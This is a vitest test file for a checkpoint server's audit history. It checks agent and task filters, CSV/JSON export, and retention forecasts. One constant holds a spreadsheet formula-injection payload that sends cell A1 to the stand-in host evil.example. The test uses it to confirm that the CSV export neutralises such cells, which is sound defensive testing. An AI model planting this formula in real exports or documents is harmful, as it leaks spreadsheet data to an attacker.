/**
 * What an auditor reads, against the production server: history.list filtered
 * by agent and task, the CSV / JSON export with reason, agent, task, session,
 * checkpoint and rollback ids in columns of their own (formula-safe), and
 * retention.set's forecast, dry run and apply-to-existing option.
 */
import path from "node:path";
import { beforeAll, describe, expect, inject, it } from "vitest";
import { Api, expectError, makeComponent, writeTree } from "./api";
import { parseCsv } from "../support/csv";

const server = inject("main");
const admin = new Api(server.baseUrl, server.adminToken);

const MALICIOUS_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

interface HistoryItem {
  id: string;
  kind: string;
  checkpointId: string | null;
  reason: string | null;
  agent: string | null;
  task: string | null;
  session: string | null;
  rollbackId: string | null;
}

function download(query: Record<string, string>): Promise<Response> {
  return fetch(`${server.baseUrl}/api/history/export?${new URLSearchParams(query).toString()}`, { headers: { authorization: `Bearer ${server.adminToken}` } });
}

describe("history by agent and task, and its export", () => {
  let name: string;
  const ids: Record<string, string> = {};
  let rollbackId: string;

  beforeAll(async () => {
    let root: string;
    ({ name, root } = await makeComponent(admin, server.workspace, { "a.txt": "one\n" }));
    ids.first = (await admin.call<{ id: string }>("checkpoint.create", { component: name, reason: MALICIOUS_REASON, agent: "claude", task: "T-1" })).id;
    writeTree(root, { "a.txt": "two\n" });
    ids.second = (await admin.call<{ id: string }>("checkpoint.create", { component: name, reason: "second step", agent: "claude", task: "T-2" })).id;
    writeTree(path.join(root), { "a.txt": "three\n" });
    ids.other = (await admin.call<{ id: string }>("checkpoint.create", { component: name, reason: "by hand", metadata: { task: "T-2" }, agent: "cursor" })).id;
    // A verify and a rollback name the checkpoint: their events carry its agent and task.
    await admin.call("checkpoint.verify", { id: ids.first });
    const plan = await admin.call<{ confirmToken: string }>("rollback.plan", { checkpointId: ids.first });
    ({ rollbackId } = await admin.call<{ rollbackId: string }>("rollback.execute", { checkpointId: ids.first, confirmToken: plan.confirmToken }));
  }, 120_000);

  it("history.list filters by agent and by task, exactly, and says what each event was about", async () => {
    const byAgent = await admin.get<{ items: HistoryItem[] }>("history.list", { component: name, agent: "claude" });
    expect(byAgent.items.map((i) => [i.kind, i.checkpointId])).toEqual([
      ["rollback", ids.first],
      ["checkpoint.verify", ids.first],
      ["checkpoint.create", ids.second],
      ["checkpoint.create", ids.first],
    ]);
    const rollback = byAgent.items[0] as HistoryItem;
    expect(rollback).toMatchObject({ reason: MALICIOUS_REASON, agent: "claude", task: "T-1", session: `${name}/T-1`, rollbackId });

    const byTask = await admin.get<{ items: HistoryItem[] }>("history.list", { component: name, task: "T-2" });
    expect(byTask.items.map((i) => i.checkpointId)).toEqual([ids.other, ids.second]);
    expect(byTask.items.map((i) => i.agent)).toEqual(["cursor", "claude"]);

    const both = await admin.get<{ items: HistoryItem[] }>("history.list", { component: name, agent: "cursor", task: "T-2" });
    expect(both.items.map((i) => i.checkpointId)).toEqual([ids.other]);
    expect((await admin.get<{ items: HistoryItem[] }>("history.list", { component: name, agent: "Claude" })).items).toEqual([]);
    expect((await admin.get<{ items: HistoryItem[] }>("history.list", { component: name, task: "T" })).items).toEqual([]);
    expect(expectError(await admin.query("history.list", { agent: "" }), 400).data?.field).toBe("agent");
  });

  it("exports the columns an auditor reads, neutralising a cell that would run as a formula, with the same filters", async () => {
    const response = await download({ format: "csv", component: name, agent: "claude", task: "T-1" });
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    expect(header).toEqual(["id", "startedAt", "kind", "outcome", "actor", "component", "checkpointId", "rollbackId", "reason", "agent", "task", "session", "durationMs", "files", "bytes", "checksum", "error", "details"]);
    const records = rows.map((row) => Object.fromEntries((header as string[]).map((h, i) => [h, row[i]])));
    expect(records.map((r) => r.kind)).toEqual(["rollback", "checkpoint.verify", "checkpoint.create"]);
    for (const record of records) {
      expect(record).toMatchObject({ component: name, checkpointId: ids.first, reason: `'${MALICIOUS_REASON}`, agent: "claude", task: "T-1", session: `${name}/T-1`, actor: "token:admin" });
      expect(record.startedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    }
    expect(records[0]?.rollbackId).toBe(rollbackId);
    expect(records[2]?.rollbackId).toBe("");

    const json = (await (await download({ format: "json", component: name, task: "T-1" })).json()) as { filters: unknown; items: HistoryItem[] };
    expect(json.filters).toEqual({ component: name, task: "T-1" });
    expect(json.items.map((i) => i.kind)).toEqual(["rollback", "checkpoint.verify", "checkpoint.create"]);
    // JSON keeps values as they are: it is not read as formulas.
    expect(json.items[2]).toMatchObject({ reason: MALICIOUS_REASON, agent: "claude", task: "T-1", session: `${name}/T-1`, rollbackId: null, checkpointId: ids.first });
  });
});

describe("retention.set forecast and apply-to-existing", () => {
  it("previews without saving, leaves existing dates alone by default, and brings them forward when asked", async () => {
    const { name, root } = await makeComponent(admin, server.workspace, { "a.txt": "one\n" });
    const first = await admin.call<{ id: string }>("checkpoint.create", { component: name });
    writeTree(root, { "a.txt": "two\n" });
    await admin.call("checkpoint.create", { component: name });

    const preview = await admin.call<{ dryRun: boolean; forecast: { expireNow: number; redated: number; firstExpiry: { checkpointId: string } | null; kept: unknown } }>("retention.set", {
      component: name,
      keepLast: 1,
      dryRun: true,
    });
    expect(preview).toMatchObject({ dryRun: true, forecast: { expireNow: 0, redated: 0, firstExpiry: { checkpointId: first.id } } });
    expect(preview.forecast.kept).toEqual([
      { rule: "newest", count: 1 },
      { rule: "retention-until", count: 1 },
    ]);
    expect((await admin.get<{ policies: { scope: string }[] }>("retention.get", { component: name })).policies.map((p) => p.scope)).not.toContain(`component:${name}`);

    const applied = await admin.call<{ dryRun: boolean; forecast: { expireNow: number; redated: number } }>("retention.set", { component: name, keepLast: 1, applyToExisting: true });
    expect(applied).toMatchObject({ dryRun: false, forecast: { expireNow: 1, redated: 2 } });
    const detail = await admin.get<{ createdAt: string; retentionUntil: string }>("checkpoint.get", { id: first.id });
    expect(detail.retentionUntil).toBe(detail.createdAt);
    const [event] = (await admin.get<{ items: { details: unknown }[] }>("history.list", { component: name, kind: "retention.set" })).items;
    expect(event?.details).toMatchObject({ applyToExisting: true, redated: 2 });

    expect(expectError(await admin.mutation("retention.set", { component: name, reset: true, applyToExisting: true }), 400).data?.field).toBe("applyToExisting");
    expect(expectError(await admin.mutation("retention.set", { component: name, keepLast: 1, applyToExisting: "yes" }), 400).data?.field).toBe("applyToExisting");
  });
});
